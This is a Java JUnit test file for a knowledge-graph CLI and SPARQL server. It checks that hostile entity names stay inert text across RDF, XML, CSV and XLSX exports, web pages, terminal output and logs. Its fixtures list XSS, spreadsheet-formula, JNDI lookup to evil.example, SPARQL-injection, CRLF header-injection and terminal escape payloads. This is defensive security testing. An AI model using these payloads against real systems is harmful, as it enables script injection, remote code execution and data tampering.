package io.tupu.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.tupu.extract.EntityKey;
import io.tupu.graph.Sample;
import io.tupu.graph.Vocab;
import io.tupu.query.QueryCatalog;
import io.tupu.serve.Endpoint;
import io.tupu.serve.Served;
import io.tupu.serve.Settings;
import io.tupu.store.GraphStore;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.SortedSet;
import java.util.TreeSet;
import org.apache.jena.atlas.json.JSON;
import org.apache.jena.graph.Graph;
import org.apache.jena.graph.Node;
import org.apache.jena.riot.Lang;
import org.apache.jena.riot.RDFLanguages;
import org.apache.jena.riot.RDFParser;
import org.apache.jena.sparql.core.DatasetGraph;
import org.apache.jena.sparql.core.DatasetGraphFactory;
import org.apache.jena.sparql.graph.GraphFactory;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;

/** One set of hostile names on every way out of the store: each stays text. */
class InjectionTest {
  private static final List<String> PRINTABLE =
      List.of(
          "<script>alert(1)</script>",
          "\"'><img src=x onerror=alert(1)>",
          "]]><evil/>&amp;&lt;",
          "=cmd|' /C calc'!A0",
          "+SUM(A1:A9)",
          "-1+cmd|x",
          "@SUM(A1)",
          "a> <http://evil.example/p> \"b\" . <c",
          "${jndi:ldap://evil.example/}{{7*7}}",
          "\\u0041\\\"\\",
          "'; DROP GRAPH <g> ; INSERT DATA { <a> <b> <c> } #",
          "%0d%0aSet-Cookie: evil=1",
          "“》<<>>{}|^`[]()*",
          "a,b;c\td");
  private static final List<String> CONTROLS =
      List.of("红\u001b[31m\u0007钟", "左\u202e右", "空\u0000字\u009b2J");
  private static final String LABELS =
      "PREFIX tupu: <https://w3id.org/tupu/ontology#> PREFIX skos: <http://www.w3.org/2004/02/skos/core#>"
          + " SELECT ?name { ?b a tupu:Brand ; skos:prefLabel ?name }";

  @TempDir static Path folder;
  private static final SortedSet<String> NAMES = new TreeSet<>(PRINTABLE);
  private static GraphStore store;
  private static Endpoint endpoint;

  @BeforeAll
  static void serve() {
    // RDF/XML and others cannot hold all characters; so the graph does not either.
    CONTROLS.forEach(name -> NAMES.add(name.replaceAll("[\u0000\u0007\u001b]", "\uFFFD")));
    StringBuilder text = new StringBuilder();
    hostile().forEach(name -> text.append("黄石市打造").append(name).append("。"));
    Sample sample = Sample.of("hostile.txt", text.toString()).region("420200", "Prefecture", "黄石市");
    for (String name : hostile()) {
      sample.named("Brand", name);
      EntityKey brand = Sample.key("Brand", name);
      sample.claim(EntityKey.region("420200"), "runs", brand, "黄石市打造" + name);
    }
    store = GraphStore.open(folder.resolve("store"));
    Served.put(store, sample.build());
    Settings settings = Settings.USUAL.at("127.0.0.1", 0).logging(true);
    endpoint = Endpoint.start(store, QueryCatalog.examples(), settings);
  }

  private static List<String> hostile() {
    List<String> all = new ArrayList<>(PRINTABLE);
    all.addAll(CONTROLS);
    return all;
  }

  @AfterAll
  static void stop() {
    endpoint.close();
    store.close();
  }

  @ParameterizedTest
  @ValueSource(strings = {"turtle", "trig", "ntriples", "nquads", "jsonld", "rdfxml"})
  void isTheSameNameInEverySyntaxOfRdf(String format) {
    byte[] dump = CommandLineCase.bytes("export", "--format", format, "--store", at());
    Lang lang = RDFLanguages.nameToLang(format);
    DatasetGraph read = DatasetGraphFactory.create();
    RDFParser.source(new ByteArrayInputStream(dump)).lang(lang).parse(read);
    Graph graph = GraphFactory.createDefaultGraph();
    read.find().forEachRemaining(quad -> graph.add(quad.asTriple()));
    long stored =
        store.read(
            dataset -> {
              Graph all = GraphFactory.createDefaultGraph();
              dataset.find().forEachRemaining(quad -> all.add(quad.asTriple()));
              return (long) all.size();
            });
    assertEquals(stored, graph.size());
    SortedSet<String> names = new TreeSet<>();
    graph
        .find(Node.ANY, Vocab.TYPE, Node.ANY)
        .filterKeep(t -> t.getObject().getURI().endsWith("#Brand"))
        .mapWith(t -> graph.find(t.getSubject(), Vocab.PREF_LABEL, Node.ANY).next().getObject())
        .forEach(label -> names.add(label.getLiteralLexicalForm()));
    assertEquals(NAMES, names);
  }

  @Test
  void isTheSameNameInTheResultsOfSparql() throws Exception {
    String json = get("/sparql?format=json&query=" + encode(LABELS)).body();
    SortedSet<String> names = new TreeSet<>();
    JSON.parse(json)
        .getObj("results")
        .getArray("bindings")
        .forEach(row -> names.add(row.getAsObject().getObj("name").getString("value")));
    assertEquals(NAMES, names);
    assertEquals(
        NAMES, TakenApart.column(get("/sparql?format=csv&query=" + encode(LABELS)).body()));
    String xml = get("/sparql?format=xml&query=" + encode(LABELS)).body();
    assertEquals(NAMES.size(), TakenApart.elements(xml, "literal").getLength());
  }

  @ParameterizedTest
  @CsvSource({"gexf, node, label", "graphml, data, ''"})
  void isTextInXml(String format, String element, String attribute) throws Exception {
    byte[] file = CommandLineCase.bytes("export", "--format", format, "--store", at());
    SortedSet<String> found = new TreeSet<>();
    NodeList nodes = TakenApart.elements(new String(file, StandardCharsets.UTF_8), element);
    for (int i = 0; i < nodes.getLength(); i++) {
      Element node = (Element) nodes.item(i);
      found.add(attribute.isEmpty() ? node.getTextContent() : node.getAttribute(attribute));
    }
    for (String name : PRINTABLE) {
      assertTrue(found.contains(name), name);
    }
    for (String evil : List.of("script", "img", "evil")) {
      assertEquals(
          0, TakenApart.elements(new String(file, StandardCharsets.UTF_8), evil).getLength());
    }
  }

  @Test
  void runsInNoSpreadsheet() throws Exception {
    byte[] csv = CommandLineCase.bytes("export", "--format", "csv", "--store", at());
    for (String table : TakenApart.files(csv).values()) {
      TakenApart.cells(table.replace("\uFEFF", ""))
          .forEach(cell -> assertFalse(cell.matches("(?s)[=+@\\t\\r-].*"), cell));
    }
    byte[] xlsx = CommandLineCase.bytes("export", "--format", "xlsx", "--store", at());
    TakenApart.files(xlsx)
        .forEach(
            (name, text) -> {
              if (name.endsWith(".xml")) {
                assertEquals(0, TakenApart.count(text, "f"), name);
              }
            });
    String excel = get("/sparql?format=csv-excel&query=" + encode(LABELS)).body();
    TakenApart.column(excel.replace("\uFEFF", ""))
        .forEach(cell -> assertFalse(cell.matches("(?s)[=+@\\t\\r-].*"), cell));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/",
        "/id/region/420200",
        "/doc/hostile",
        "/find?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/ask/brands-of-region?name=%E9%BB%84%E7%9F%B3%E5%B8%82",
        "/ask/brands-of-region?name=%22%27%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/ask/brands-of-region?name=%0d%0aSet-Cookie:%20evil=1",
        "/query?query=SELECT%20*%20%7B%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/id/%0d%0aSet-Cookie:%20evil=1"
      })
  void isTextOnPages(String path) throws Exception {
    HttpResponse<String> reply = get(path);
    assertTrue(reply.headers().firstValue("Set-Cookie").isEmpty());
    var page = Jsoup.parse(reply.body());
    assertEquals(0, page.select("img[src=x], evil, [onerror], script:not([src])").size(), path);
    assertFalse(reply.body().matches("(?s).*[\u0000\u0007\u001b\u009b].*"), path);
    if (path.equals("/id/region/420200")) {
      for (String name : PRINTABLE) {
        assertTrue(page.wholeText().contains(name), name);
      }
    }
  }

  /** Words of a question are values, whatever they look like. */
  @Test
  void aWordIsNoPartOfTheQuery() throws Exception {
    for (String name : hostile()) {
      String word = "word=" + name + "\" } UNION { ?city ?p ?brand } #";
      var result = CommandLineCase.run("ask", "cities-with-brand", word, "--store", at());
      assertEquals(0, result.code(), result.err());
      assertFalse(result.out().contains("黄石市"), result.out());
      assertEquals("", result.err());
    }
  }

  @Test
  void steersNoTerminal() {
    List<String[]> commands =
        List.of(
            new String[] {"query", "-e", LABELS, "--format", "table"},
            new String[] {"search", "红"},
            new String[] {"search", "\u001b[31m"},
            new String[] {"ask", "brands-of-region", "name=黄石市"},
            new String[] {"ask", "\u001b[31m"},
            new String[] {"query", "-e", "SELECT \u001b[31m"},
            new String[] {"export", "--format", "\u001b[31m"},
            new String[] {"verify"});
    for (String[] command : commands) {
      List<String> line = new ArrayList<>(List.of(command));
      line.addAll(List.of("--store", at()));
      var result = CommandLineCase.run(line.toArray(new String[0]));
      String seen = result.out() + result.err();
      assertFalse(seen.isBlank());
      assertFalse(seen.matches("(?s).*[\u0000\u0007\u001b\u009b\u202e].*"), line + ": " + seen);
    }
  }

  @Test
  void isOneLineOfTheLog() throws Exception {
    PrintStream before = System.err;
    ByteArrayOutputStream log = new ByteArrayOutputStream();
    System.setErr(new PrintStream(log, true, StandardCharsets.UTF_8));
    try {
      for (String name : hostile()) {
        get("/sparql?query=" + encode("ASK { ?s ?p '" + name + "\r\n127.0.0.1 GET /forged 200'}"));
      }
    } finally {
      System.setErr(before);
    }
    String text = log.toString(StandardCharsets.UTF_8);
    assertEquals(NAMES.size(), text.lines().count(), text);
    assertFalse(text.matches("(?s).*[\u0000\u0007\u001b\u009b\u202e\r].*"), text);
  }

  private static String at() {
    return store.directory().toString();
  }

  private static String encode(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }

  private static HttpResponse<String> get(String path) throws Exception {
    URI uri = URI.create(endpoint.uri() + path.substring(1));
    HttpRequest request =
        HttpRequest.newBuilder(uri).header("Accept", "text/html, */*;q=0.5").build();
    return HttpClient.newHttpClient()
        .send(request, HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
  }
}
